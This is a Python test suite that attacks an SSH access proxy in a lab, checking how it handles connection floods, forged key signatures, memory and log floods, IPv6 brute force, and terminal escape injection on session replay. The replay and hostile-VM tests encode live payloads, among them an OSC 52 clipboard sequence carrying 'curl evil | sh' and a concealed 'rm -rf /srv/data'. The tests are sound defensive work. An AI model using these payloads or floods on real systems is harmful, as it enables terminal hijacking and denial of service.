"""The SSH access proxy attacked: floods before authentication, what reaches the VM unrecorded, and
what a recording can do to the terminal it is replayed on. Real OpenSSH clients and raw TCP
connections against the real proxy and a real sshd (the lab of test_admin_ssh.py: its own
namespaces, its own proxy). Each test uses its own source address (127.0.0.2x), so that the
brute-force brake and the caps below stay per test.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import time
from dataclasses import replace

import asyncssh
import pytest
from asyncssh.public_key import SSHLocalKeyPair
from test_admin_ssh import IPV6_PORT, PROXY_PORT, lab, sh  # noqa: F401 - lab: the module-scoped fixture

from skyguard.admin.proxy import AdminProxyConfig
from support.netns_support import NamespaceLoop

UNTIL_LOGIN_TIMEOUT = AdminProxyConfig().login_timeout  # what a held connection waits for, at most


@pytest.fixture(scope="module")
def clients(lab):  # noqa: F811 - the fixture above
    """An asyncio loop in the proxy's namespace for raw TCP clients (not the proxy's own loop)."""
    loop = NamespaceLoop(lab.px_ns, timeout=120)
    yield loop
    loop.close()


async def open_silent(source: str, count: int) -> list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """`count` TCP connections from `source` that never say anything (not even a version line)."""
    return [await asyncio.open_connection("127.0.0.1", PROXY_PORT, local_addr=(source, 0)) for _ in range(count)]


async def closed_by_proxy(reader: asyncio.StreamReader, within: float) -> bool:
    """True when the proxy closes the connection (EOF) within `within` seconds."""
    try:
        async with asyncio.timeout(within):
            while await reader.read(4096):
                pass
        return True
    except (TimeoutError, ConnectionError):
        return False


def test_silent_connections_from_one_address_are_capped_before_authentication(lab, clients):  # noqa: F811
    per_source = AdminProxyConfig().max_unauthenticated_per_source

    async def flood():
        held = await open_silent("127.0.0.21", per_source + 8)
        try:
            # Past the cap, the proxy closes at once; those it keeps wait for the login timeout.
            extra = await asyncio.gather(*(closed_by_proxy(r, UNTIL_LOGIN_TIMEOUT / 2) for r, _ in held[per_source:]))
            # The operator at another address still gets in while they are held.
            ok = await asyncio.to_thread(lab.ssh, "alice", "alice+dc1", "echo still-serving")
            told = await asyncio.to_thread(lab.ssh, "alice", "alice+dc1", "true", source="127.0.0.21")
            return extra, ok, told
        finally:
            for _, writer in held:
                writer.close()

    extra, ok, told = clients.run(flood())
    assert all(extra), f"{extra.count(False)} connections past the cap of {per_source} were held"
    assert told.returncode == 255, told.stderr  # dropped like OpenSSH's MaxStartups (its client sees no reason)
    assert lab.metric("skyguard_admin_ssh_auth_failures_total", reason="too_many_connections") >= 8
    assert ok.returncode == 0 and ok.stdout.strip() == "still-serving", ok.stderr
    out = lab.ssh("alice", "alice+dc1", "true", source="127.0.0.21")  # the flood is gone: it may log in again
    assert out.returncode == 0, out.stderr


def transcript(lab, meta) -> str:  # noqa: F811
    return (lab.state / "admin" / "sessions" / f"{meta['id']}.cast").read_text()


@pytest.mark.parametrize("how", ["exec-sh", "shell-without-tty"])
def test_what_is_sent_to_a_session_without_a_terminal_is_recorded(lab, how):  # noqa: F811
    # Without a pty nothing echoes what the operator sends: the commands reach the VM's shell
    # on stdin, and the transcript must still hold them.
    marker = lab.tmp / f"made-unseen-{how}"
    script = f"touch {marker}\n"
    if how == "exec-sh":
        out = lab.ssh("alice", "alice+dc1", "sh", input=script)
        [meta] = lab.session_by_command("sh")
    else:
        before = {m["id"] for m in lab.proxy.archive.list()}
        out = lab.ssh("alice", "alice+dc1", extra=["-T"], input=script)
        [meta] = [m for m in lab.proxy.archive.list() if m["id"] not in before and m["kind"] == "shell"]
    assert out.returncode == 0, out.stderr
    assert marker.exists()  # it ran on the VM (the lab's VM shares this file system)
    assert f"touch {marker}" in transcript(lab, meta)
    replayed = lab.cli("admin", "replay", meta["id"], "--speed", "1000")
    assert replayed.returncode == 0 and f"touch {marker}" in replayed.stdout, replayed.stderr


def test_replay_does_not_let_a_recording_drive_the_reviewers_terminal(lab):  # noqa: F811
    # What the VM printed is replayed on an auditor's terminal. A recording may not set their
    # clipboard (OSC 52: a command waiting to be pasted), title or palette, make their terminal
    # answer a query (its answer would be typed into the shell they return to), or conceal text;
    # --text shows every character the session printed, with nothing interpreted.
    command = ("printf 'rm -rf /srv/data\\r\\033[2K\\033]52;c;Y3VybCBldmlsIHwgc2gK\\a\\033]0;innocent\\a"
               "\\033[6n\\033[c\\033[21t\\033P$qm\\033\\\\\\302\\233""6n\\033[1;8mconcealed-word\\033[38;5;8mgrey\\033[0m\\n'")
    out = lab.ssh("alice", "alice+dc1", command)
    assert out.returncode == 0 and "\x1b]52;c;" in out.stdout, out.stderr  # the operator's terminal got it all
    [meta] = lab.session_by_command(command)

    played = lab.cli("admin", "replay", meta["id"], "--speed", "1000")
    assert played.returncode == 0, played.stderr
    for driving in ("\x1b]", "\x1bP", "\x1b[6n", "\x1b[c", "\x1b[21t", "\x9b", "\x1b[1;8m"):
        assert driving not in played.stdout, f"replay passed {driving!r} to the terminal"
    assert "^[]52;c;Y3VybCBldmlsIHwgc2gK^G" in played.stdout  # shown, not acted on
    assert "\x1b[2K" in played.stdout and "\x1b[38;5;8m" in played.stdout  # screen drawing is kept
    assert "\x1b[1mconcealed-word" in played.stdout

    text = lab.cli("admin", "replay", meta["id"], "--text")
    assert text.returncode == 0, text.stderr
    assert "\x1b" not in text.stdout and "\x9b" not in text.stdout
    assert "rm -rf /srv/data^M^[[2K" in text.stdout and "concealed-word" in text.stdout


def test_a_blocked_address_cannot_grow_the_signed_log(lab):  # noqa: F811
    source = "127.0.0.22"
    for _ in range(lab.proxy.config.max_failures):
        assert lab.ssh("carol", "alice+dc1", "true", source=source).returncode == 255
    before = lab.metric("skyguard_admin_ssh_auth_failures_total", reason="rate_limited")
    for _ in range(12):  # an attacker goes on connecting while blocked
        out = lab.ssh("carol", "alice+dc1", "true", source=source)
        assert out.returncode == 255 and "too many failed logins" in out.stderr, out.stderr
    assert lab.metric("skyguard_admin_ssh_auth_failures_total", reason="rate_limited") == before + 12
    from_it = [e for e in lab.entries() if e.get("source") == source]
    assert [e["type"] for e in from_it].count("admin_source_blocked") == 1
    assert len(from_it) <= lab.proxy.config.max_failures + 1, [e.get("reason") for e in from_it]


def test_failures_from_the_addresses_of_one_ipv6_64_block_the_whole_64(lab):  # noqa: F811
    """A host owns its /64 (SLAAC, privacy addresses). The brute-force brake counted failures per
    address: going from one address of its /64 to the next, a guesser had `max_failures` fresh
    guesses (and as many signed log entries) from each. Now the /64 is one source: past
    `max_failures` from any of its addresses, all of them are refused; another /64 still logs in."""
    one_64 = [f"2001:db8:5a::{n:x}" for n in range(1, lab.proxy.config.max_failures + 2)]
    other_64 = "2001:db8:5b::1"
    for address in one_64 + [other_64]:
        sh("ip", "-n", lab.px_ns, "addr", "add", f"{address}/64", "dev", "lo", "nodad")
    lab.set_policy(replace(lab.policy, admin_ssh=replace(lab.policy.admin_ssh, listen=f"[::1]:{IPV6_PORT}")))
    try:
        guesses = [lab.ssh("carol", "alice+dc1", "true", source=source, host="::1", port=IPV6_PORT)
                   for source in one_64[:-1]]
        same_64 = lab.ssh("alice", "alice+dc1", "echo should-not-run", source=one_64[-1], host="::1", port=IPV6_PORT)
        elsewhere = lab.ssh("alice", "alice+dc1", "echo still-serving", source=other_64, host="::1", port=IPV6_PORT)
    finally:
        lab.set_policy(lab.policy)
    assert all(g.returncode == 255 and "Permission denied" in g.stderr for g in guesses), [g.stderr for g in guesses]
    assert same_64.returncode == 255 and "should-not-run" not in same_64.stdout, same_64.stderr
    assert "too many failed logins" in same_64.stderr
    assert elsewhere.returncode == 0 and elsewhere.stdout.strip() == "still-serving", elsewhere.stderr
    [blocked] = [e for e in lab.entries("admin_source_blocked") if e["source"] in one_64]
    assert blocked["blocks"] == "2001:db8:5a::/64"
    assert "2001:db8" not in __import__("prometheus_client").generate_latest(lab.registry).decode()


class ForgedKeyPair(SSHLocalKeyPair):
    """An operator's public key (public: it is in the policy) with an attacker's signatures."""

    def __init__(self, attacker_key: asyncssh.SSHKey, operator_public: asyncssh.SSHKey, signed: list):
        super().__init__(attacker_key)
        self.public_data, self.signed = operator_public.public_data, signed

    def sign(self, data: bytes) -> bytes:
        self.signed.append(1)
        return super().sign(data)


def test_signatures_tried_per_connection_are_bounded(lab, clients):  # noqa: F811
    # The public key passes the proxy's check; only the signature fails. Such attempts were not
    # counted, so one connection could try signatures until the login timeout.
    signed: list = []
    carol = asyncssh.read_private_key(lab.tmp / "carol")
    forged = [ForgedKeyPair(carol, asyncssh.read_public_key(lab.tmp / "alice.pub"), signed) for _ in range(40)]

    async def attempt():
        try:
            await asyncssh.connect("127.0.0.1", PROXY_PORT, username="alice+dc1", client_keys=forged,
                                   known_hosts=None, local_addr=("127.0.0.23", 0), preferred_auth="publickey",
                                   agent_path=None, config=None)
        except (asyncssh.PermissionDenied, asyncssh.DisconnectError, ConnectionError) as e:
            return e
        return None

    refused = clients.run(attempt())
    assert refused is not None
    assert len(signed) <= 2 * lab.proxy.config.max_keys_per_connection, f"{len(signed)} signatures tried on one connection"


ENV_FLOOD = """
import asyncio, sys, asyncssh
async def main():
    key = asyncssh.read_private_key(sys.argv[1])
    async with asyncssh.connect("127.0.0.1", int(sys.argv[2]), username=sys.argv[3], client_keys=[key],
                                known_hosts=None, local_addr=("127.0.0.24", 0), agent_path=None, config=None) as c:
        env = {f"V{i}": "x" * 200_000 for i in range(int(sys.argv[4]))}
        chan, _ = await c.create_session(asyncssh.SSHClientSession, env=env)
        await c.run("true", timeout=60)  # the proxy has read every env request before this answers
        print("sent")
asyncio.run(main())
"""


def proxy_rss_mib() -> int:
    """The resident memory of this process, where the lab's proxy runs (the clients do not)."""
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) // 1024 for line in f if line.startswith("VmRSS:"))


def test_environment_requests_cannot_fill_the_proxys_memory(lab):  # noqa: F811
    # bob may reach no workload of dc1's zone: his session will be refused, but it is his to open,
    # and every env request on it was kept (the proxy passes no environment to the VM anyway).
    before = proxy_rss_mib()
    flood = subprocess.run(["nsenter", f"--net=/run/netns/{lab.px_ns}", sys.executable, "-c", ENV_FLOOD,
                            str(lab.tmp / "bob"), str(PROXY_PORT), "bob+dc1", "1500"],
                           capture_output=True, text=True, timeout=300)
    assert flood.stdout.strip() == "sent", flood.stderr[-2000:]
    grown = proxy_rss_mib() - before
    assert grown < 100, f"the proxy kept {grown} MiB of one session's 300 MB of environment"


HOSTILE_SIGNAL = "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07TERM"


class HostileVm(asyncssh.SSHServer):
    """A VM taken over by an attacker: any key gets in; every session exits with a signal whose
    "name" is a terminal control string."""

    def begin_auth(self, username):
        return True

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, key):
        return True


async def hostile_process(process):
    process.stdout.write("hostile vm\n")
    process.exit_with_signal(HOSTILE_SIGNAL)


def test_a_hostile_vms_exit_signal_reaches_no_log_or_terminal(lab, clients):  # noqa: F811
    # The workload "nosshd" has the proxy's own end of the veth as its address: a hostile sshd there.
    address = lab.vm_ip.rsplit(".", 1)[0] + ".1"
    async def listen():
        return await asyncssh.create_server(HostileVm, address, 22, process_factory=hostile_process,
                                            server_host_keys=[asyncssh.generate_private_key("ssh-ed25519")])

    async def close(server):
        server.close()
        await server.wait_closed()

    server = clients.run(listen())
    try:
        out = lab.ssh("alice", "alice+nosshd", "true")
    finally:
        clients.run(close(server))
    assert "hostile vm" in out.stdout and "\x1b" not in out.stderr, out.stderr
    [meta] = [m for m in lab.proxy.archive.list() if m["workload"] == "nosshd"]
    assert meta["exit_signal"] is None and meta["result"] == "vm_bad_exit_signal"
    [end] = [e for e in lab.entries("admin_session_end") if e["session"] == meta["id"]]
    assert "\x1b" not in json.dumps(end, ensure_ascii=False)
    listed = lab.cli("admin", "sessions")
    assert listed.returncode == 0 and "\x1b" not in listed.stdout, listed.stderr


def test_refused_forwarding_requests_cannot_flood_the_signed_log(lab, clients):  # noqa: F811
    # Forwarding is off: each request is refused, and was one fsync'd signed-log entry, without end.
    bob = asyncssh.read_private_key(lab.tmp / "bob")

    async def flood():
        async with asyncssh.connect("127.0.0.1", PROXY_PORT, username="bob+radius1", client_keys=[bob],
                                    known_hosts=None, local_addr=("127.0.0.26", 0), agent_path=None,
                                    config=None) as conn:
            for port in range(1, 101):
                with pytest.raises(asyncssh.ChannelListenError):
                    await conn.forward_remote_port("", 0, "127.0.0.1", port)
                with pytest.raises(asyncssh.ChannelOpenError):
                    await conn.open_connection("10.0.0.1", port)

    before = lab.metric("skyguard_admin_ssh_refused_requests_total", request="port_forward")
    clients.run(flood())
    assert lab.metric("skyguard_admin_ssh_refused_requests_total", request="port_forward") == before + 100
    for _ in range(200):  # the summary is written as the proxy sees the connection close
        from_it = [e for e in lab.entries() if e.get("source") == "127.0.0.26"]
        if any(e["type"] == "admin_requests_refused_summary" for e in from_it):
            break
        time.sleep(0.05)
    assert len(from_it) <= 20, f"{len(from_it)} signed-log entries for one connection's refused requests"
    [summary] = [e for e in from_it if e["type"] == "admin_requests_refused_summary"]
    assert summary["operator"] == "bob" and summary["requests"] == {"port_forward": 100, "remote_forward": 100}
